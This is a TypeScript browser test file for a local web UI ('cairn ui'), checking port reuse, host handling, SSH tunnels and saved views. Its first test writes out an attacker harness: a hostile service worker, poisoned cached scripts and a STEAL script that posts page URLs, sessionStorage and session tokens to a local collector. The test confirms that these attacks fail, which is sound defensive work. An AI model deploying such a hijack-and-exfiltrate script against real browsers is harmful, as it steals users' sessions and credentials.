import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import fs from "node:fs";
import { createServer, type Server } from "node:http";
import net, { type AddressInfo } from "node:net";
import path from "node:path";
import { type TestContext, test } from "node:test";
import { cairnOk } from "../fixtures/command.ts";
import { eventually } from "../fixtures/eventually.ts";
import { sshServer } from "../fixtures/ssh-server.ts";
import { start } from "../fixtures/ui.ts";
import { open, SKIP } from "./browser.ts";
import { newFolder } from "./shop.ts";

/** Addresses that another program had before: what it left in the browser must not reach the page. */

const ASSETS = path.resolve(import.meta.dirname, "../../dist/page/assets");
/** Hosts of pages of which a browser allows service workers. */
const HOSTS = ["127.0.0.1", "localhost", "evil.localhost", "127.99.99.99"];

/** Sends what a script of an address can see to the thief. */
const STEAL = `const tell = (what) => fetch(LOOT, { method: "POST", mode: "no-cors", body: what });
  tell(location.href);
  try { tell(JSON.stringify(Object.entries(sessionStorage))); } catch {}
  new BroadcastChannel("cairn-session").postMessage({ ask: "token" });
  new BroadcastChannel("cairn-session").onmessage = ({ data }) => tell(JSON.stringify(data));`;

/** A program that listens at a port, takes over each page that a browser opens there, and keeps what it is told. */
class Thief {
  readonly loot: string[] = [];
  readonly #collector = createServer((request, response) => {
    request.toArray().then(
      (pieces: Buffer[]) => this.loot.push(Buffer.concat(pieces).toString()),
      () => undefined,
    );
    response.end();
  });
  readonly #server = createServer((request, response) => {
    const script = `const LOOT = ${JSON.stringify(this.#collectorUrl())};\n${STEAL}`;
    response.setHeader("cache-control", "public, max-age=31536000, immutable");
    if (request.url === "/worker.js")
      return response.setHeader("content-type", "text/javascript").end(`
        addEventListener("install", () => skipWaiting());
        addEventListener("activate", (event) => event.waitUntil(clients.claim()));
        addEventListener("fetch", (event) => new URL(event.request.url).origin === location.origin && event.respondWith(new Response(${JSON.stringify(`<title>stolen</title><script>${script}</script>`)}, { headers: { "content-type": "text/html" } })));`);
    if (request.url!.endsWith(".js")) return response.setHeader("content-type", "text/javascript").end(script);
    response.setHeader("content-type", "text/html").end("<title>thief</title>");
  });

  async start(): Promise<number> {
    await listening(this.#collector, { port: 0, host: "127.0.0.1" });
    await listening(this.#server, { port: 0, host: "0.0.0.0" });
    return (this.#server.address() as AddressInfo).port;
  }

  #collectorUrl(): string {
    return `http://127.0.0.1:${(this.#collector.address() as AddressInfo).port}/`;
  }

  leavePort(): Promise<void> {
    return closed(this.#server);
  }

  async end(): Promise<void> {
    await Promise.all([closed(this.#server), closed(this.#collector)]);
  }
}

async function listening(server: net.Server, address: { port: number; host: string }): Promise<void> {
  await new Promise<void>((done, fail) => server.once("error", fail).listen(address, done));
}

function closed(server: Server): Promise<void> {
  server.closeAllConnections();
  return new Promise((done) => server.close(() => done()));
}

/** Passes all connections at a port on to the page's server, which so has the port that the thief had. */
async function forward(t: TestContext, from: number, to: number): Promise<void> {
  const sockets = new Set<net.Socket>();
  const server = net.createServer((socket) => {
    const far = net.connect(to, "127.0.0.1");
    for (const each of [socket, far]) sockets.add(each.on("error", () => undefined));
    socket.pipe(far).pipe(socket);
  });
  await listening(server, { port: from, host: "0.0.0.0" });
  t.after(() => {
    for (const each of sockets) each.destroy();
    server.close();
  });
}

function workspace(name: string): string {
  const folder = newFolder(name);
  fs.writeFileSync(path.join(folder, "secret.txt"), "secret\n");
  cairnOk(["save", folder, "-m", "first"]);
  return folder;
}

test(
  "a service worker and a poisoned cache that a program left at the page's port get nothing",
  { skip: SKIP },
  async (t) => {
    const folder = workspace("port-of-a-thief");
    const thief = new Thief();
    t.after(() => thief.end());
    const port = await thief.start();
    const { context } = await open(t, null, { expected: /./ });
    const ui = await start(t, [folder, "--no-open"]);
    const scripts = fs
      .readdirSync(ASSETS)
      .flatMap((name) => (name.endsWith(".js.gz") ? [name.slice(0, -".gz".length)] : []));
    assert.ok(scripts.length > 3);
    for (const host of HOSTS) {
      const trap = await context.newPage();
      await trap.goto(`http://${host}:${port}/`);
      await trap.evaluate(`(async () => {
        for (const name of ${JSON.stringify(scripts)}) await (await fetch("/assets/" + name, { cache: "force-cache" })).text();
        await navigator.serviceWorker.register("/worker.js");
        await navigator.serviceWorker.ready;
      })()`);
      await trap.close();
    }
    const stays = await context.newPage();
    await stays.goto(`http://127.0.0.1:${port}/`);
    await thief.leavePort();
    await forward(t, port, Number(new URL(ui.url).port));

    // The traps work: a page at an address that the thief had would lose its code.
    for (const host of HOSTS) {
      const tab = await context.newPage();
      await tab.goto(`http://${host}:${port}/#code=CODE-FOR-${host}`);
      assert.equal(await tab.title(), "stolen", host);
      await eventually(`the worker at ${host} steals a code`, () =>
        thief.loot.some((each) => each.endsWith(`CODE-FOR-${host}`)),
      );
      await tab.close();
    }
    // A page of the thief that is still open, at the port that the server has now.
    const asked = (await stays.evaluate(`(async () => {
      const of = async (path, init) => { const answer = await new Promise((ok) => { const e = new XMLHttpRequest(); e.open(init?.method ?? "GET", path); e.onloadend = () => ok(e.status + e.responseText); e.send(init?.body); }); return answer; };
      return [await of("/v1/about"), await of("/session", { method: "POST", body: '{"code":"x"}' })];
    })()`)) as string[];
    assert.ok(
      asked.every((each) => !/"read_only"|"token":/.test(each)),
      String(asked),
    );

    const before = thief.loot.length;
    const address = new URL(ui.url);
    address.port = String(port);
    const tab = await context.newPage();
    await tab.goto(address.href);
    await tab.locator(".point-row", { hasText: "first" }).waitFor();
    assert.equal(await tab.evaluate("navigator.serviceWorker.controller"), null);
    assert.equal(await tab.evaluate("isSecureContext"), true);
    await tab.reload();
    await tab.locator(".point-row", { hasText: "first" }).waitFor();
    assert.deepEqual(thief.loot.slice(before), []);
  },
);

test("127.0.0.1 and localhost show a text without a script, and no code of theirs works", { skip: SKIP }, async (t) => {
  const { context } = await open(t, null, { expected: /./ });
  const ui = await start(t, [workspace("by-address"), "--no-open"]);
  const { port, hash } = new URL(ui.url);
  for (const host of ["127.0.0.1", "localhost", "[::1]"]) {
    const tab = await context.newPage();
    const answer = await tab.goto(`http://${host}:${port}/${hash}`);
    assert.deepEqual([answer!.status(), answer!.headers()["content-type"]], [200, "text/plain; charset=utf-8"], host);
    await tab.getByText("Open the address that `cairn ui` printed").waitFor();
    assert.equal(await tab.evaluate("document.scripts.length"), 0);
    const session = `fetch("/session", { method: "POST", body: JSON.stringify({ code: ${JSON.stringify(hash.slice(6))} }) }).then((answer) => answer.status)`;
    assert.equal(await tab.evaluate(session).catch(() => 421), 421, host);
    await tab.close();
  }
  const tab = await context.newPage();
  await tab.goto(ui.url);
  await tab.locator(".point-row").waitFor();
});

test("the page of --address works at its random address", { skip: SKIP }, async (t) => {
  const { page, origin } = await open(t, workspace("random-address"), { args: ["--address"] });
  assert.match(origin, /^http:\/\/127\.\d+\.\d+\.\d+:\d+$/);
  await page.locator(".point-row", { hasText: "first" }).waitFor();
});

test("the next page begins with the view that was open last in the workspace", { skip: SKIP }, async (t) => {
  const folder = workspace("last-view");
  const env = { XDG_CACHE_HOME: newFolder("last-view-cache") };
  const first = await open(t, folder, { env, expected: /^Failed to load resource: / });
  const noted = first.page.waitForResponse(
    (answer) => answer.request().postData()?.includes("search") === true && answer.url().endsWith("/view"),
  );
  await first.go({ view: "search", workspace: folder, q: "secret" });
  await noted;
  await first.ui.end();
  const second = await open(t, folder, { env });
  await second.page.locator(".found", { hasText: "secret.txt" }).waitFor();
  const other = await open(t, workspace("no-last-view"), { env });
  await other.page.locator(".point-row", { hasText: "first" }).waitFor();
});

test("the page works through ssh -L, at the same and at another port", { skip: SKIP }, async (t) => {
  const server = await sshServer(t);
  if (server === null) return;
  const { context } = await open(t, null, { expected: /./ });
  const ui = await start(t, [workspace("through-ssh"), "--no-open"], {
    SSH_CONNECTION: `10.0.0.1 5000 127.0.0.1 ${server.port}`,
  });
  const line = /ssh -p \d+ -L (\d+):127\.0\.0\.1:(\d+) /.exec(ui.said())!;
  assert.deepEqual([line[1], line[2]], [new URL(ui.url).port, new URL(ui.url).port]);
  // This machine is both ends, and the server has the port already.
  const address = new URL(ui.url);
  address.port = String(await freePort());
  const ssh = spawn(
    "sh",
    ["-c", `exec ${server.command(`-N -p ${server.port} -L ${address.port}:127.0.0.1:${line[2]}`)} 127.0.0.1`],
    {
      env: server.env,
      stdio: "ignore",
    },
  );
  t.after(() => ssh.kill());
  await eventually("the tunnel listens", () => isAnswered(Number(address.port)));
  const tab = await context.newPage();
  await tab.goto(address.href);
  await tab.locator(".point-row", { hasText: "first" }).waitFor();
});

async function freePort(): Promise<number> {
  const server = createServer();
  await listening(server, { port: 0, host: "127.0.0.1" });
  const { port } = server.address() as AddressInfo;
  await closed(server);
  return port;
}

function isAnswered(port: number): Promise<boolean> {
  const { promise, resolve } = Promise.withResolvers<boolean>();
  const socket = net.connect(port, "127.0.0.1", () => resolve(true)).on("error", () => resolve(false));
  return promise.finally(() => socket.destroy());
}
